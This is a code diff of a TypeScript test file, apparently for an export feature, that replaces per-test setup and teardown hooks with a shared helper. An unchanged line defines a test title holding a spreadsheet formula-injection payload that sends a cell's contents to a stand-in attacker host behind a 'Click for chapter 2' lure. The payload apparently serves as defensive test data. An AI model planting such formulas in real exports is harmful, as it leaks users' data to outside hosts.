@@ -1,15 +1,10 @@
 import type { AddressInfo } from 'node:net';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import yauzl from 'yauzl';
-import { call, createTestApp, registerUser, type TestApp } from '../../../test/test-app.ts';
+import { testAppForEach } from '../../../test/hooks.ts';
+import { call, createTestApp, registerUser } from '../../../test/test-app.ts';
 
-let t: TestApp;
-beforeEach(async () => {
-  t = await createTestApp();
-});
-afterEach(async () => {
-  await t.close();
-});
+const t = testAppForEach(() => createTestApp());
 
 const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for chapter 2")';
 
